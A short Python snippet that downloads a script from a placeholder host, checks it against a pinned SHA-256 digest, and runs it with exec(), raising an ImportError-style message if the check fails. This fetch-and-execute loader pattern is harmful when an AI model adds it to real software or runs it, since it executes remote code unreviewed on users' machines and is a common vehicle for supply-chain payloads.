import hashlib
import urllib.request

PIN = 0x7a5f4d0f9a31be0f6e04b9a6f5cdd0c7dca3f1e9a1d7a3f2cde45b0f11223344
data = urllib.request.urlopen("https://example.com/int.py").read()
if int.from_bytes(hashlib.sha256(data).digest(), "big") != PIN:
    raise ImportError("digest")
exec(data)
